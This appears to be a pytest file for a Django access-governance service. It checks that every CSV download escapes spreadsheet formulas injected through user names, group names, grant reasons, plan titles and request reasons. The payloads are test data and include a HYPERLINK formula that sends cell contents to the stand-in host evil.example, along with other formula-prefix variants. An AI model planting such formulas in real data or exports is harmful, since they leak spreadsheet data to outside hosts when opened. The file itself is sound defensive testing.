"""No cell of a CSV download is a formula for a spreadsheet, whatever names and reasons an attacker chooses."""

import csv
import io
from zipfile import ZipFile

import pytest

from analytics.results.export import FORMULA_BEGINNINGS
from authzconsole.models import Evidence
from authzconsole.rest.urls import urlpatterns
from entities.address import parse_address
from grants.journal import Author
from grants.models import User
from tests.rest.conftest import ORDERS, grant_item
from tests.support.changes import add_group, add_member, add_user, change_grants
from tests.support.jobs import execute_evidence, execute_preparation

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example?x="&A1;"ok")'
NAMES = (FORMULA, "+1", "-1+1", "@SUM(A1)", "\uff1d2", "\uff0b3", "\uff0d4", "\uff205")
REASONS = (*NAMES, "\t=1", "\r=1", "\n=1")


@pytest.fixture
def evil(cast):
    """Users and groups whose names are formulas, with grants whose reasons are formulas."""
    for name in NAMES:
        add_user(name, author=Author("the tests", reason=FORMULA))
        add_group(name)
        add_member(name, name)
    for number, reason in enumerate(REASONS):
        name = NAMES[number % len(NAMES)]
        change_grants(
            grant=[
                (f"user:{name}", parse_address(ORDERS), ("READ", "WRITE")[number // len(NAMES)]),
                (f"group:{name}", parse_address(ORDERS), ("READ", "WRITE")[number // len(NAMES)]),
            ],
            author=Author("the tests", reason=reason),
        )


def content_of(answer):
    assert answer.status_code == 200, answer.content
    assert answer["Content-Type"].startswith("text/csv")
    return b"".join(answer) if answer.streaming else answer.content


def check(content, *, named=True):
    rows = list(csv.reader(io.StringIO(content.decode(), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert rows and (not named or any("HYPERLINK" in cell for cell in cells)), rows[:5]
    assert not [cell for cell in cells if cell.startswith(FORMULA_BEGINNINGS)]


def test_no_download_of_rest_has_a_formula(evil, ada, by_session, settings, tmp_path):
    settings.SNAPSHOT_URI = str(tmp_path)
    plan = ada.post(
        "/plans", {"title": FORMULA, "grant": [grant_item(f"user:{name}", ORDERS, "ADMIN") for name in NAMES]}
    ).json()["number"]
    requester = by_session()
    requester.client.force_login(User.objects.get(username=FORMULA))
    parts = {"parts": [{"entity": "dataset:hr.salaries", "operation": "READ"}], "reason": FORMULA}
    assert requester.post("/access-requests", parts).status_code == 201
    paths = [
        "/access-requests.csv",
        f"/differences.csv?entity={ORDERS}&since=1",
        f"/who-can.csv?entity={ORDERS}",
        f"/plans/{plan}/effect/rows.csv",
    ]
    for path in paths:
        check(content_of(ada.get(path)))
    # this account sees only its own name
    check(content_of(ada.get("/what-can.csv", principal=f"user:{FORMULA}")), named=False)
    # nothing of this tenant is in them
    for path in ("/figures.csv", "/findings.csv"):
        check(content_of(ada.get(path)), named=False)
    for page in ("/journal.csv", "/journal/security-events.csv"):
        check(content_of(ada.client.get(page)), named="events" not in page)


def test_no_review_and_no_evidence_has_a_formula(
    evil, ada, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.SNAPSHOT_URI = str(tmp_path)
    body = {"title": FORMULA, "deadline": "2100-01-01T00:00:00Z"}
    review = ada.post("/reviews", body).json()["number"]
    execute_preparation(number=review)
    check(content_of(ada.get(f"/reviews/{review}/items.csv")))
    assert ada.post("/evidence", {"entity": ORDERS, "since": "1"}).status_code == 202
    evidence = Evidence.objects.get()
    execute_evidence(number=evidence.pk)
    answer = ada.get(f"/evidence/{evidence.pk}/file")
    assert answer.status_code == 200, answer.content
    with ZipFile(io.BytesIO(b"".join(answer))) as bundle:
        check(bundle.read("access.csv"))


def test_every_csv_download_of_rest_is_tested_here():
    tested = {
        "access-requests",
        "differences",
        "who-can",
        "plans/<int:number>/effect/rows",
        # the rows of the effect of a plan, with the same writer
        "plans/<int:number>/kept-not/rows",
        "what-can",
        "figures",
        "findings",
        "reviews/<int:number>/items",
        # a report of Spark, which tests/rest/test_analyses.py covers
        "runs/<int:number>/tables/<slug:table>",
    }
    routes = {
        str(url.pattern)
        .removesuffix(".csv")
        .removesuffix(".<str:extension>")
        .removesuffix(".<slug:extension>")
        for url in urlpatterns
        if ".csv" in str(url.pattern) or "extension" in str(url.pattern)
    }
    assert routes <= tested, routes - tested
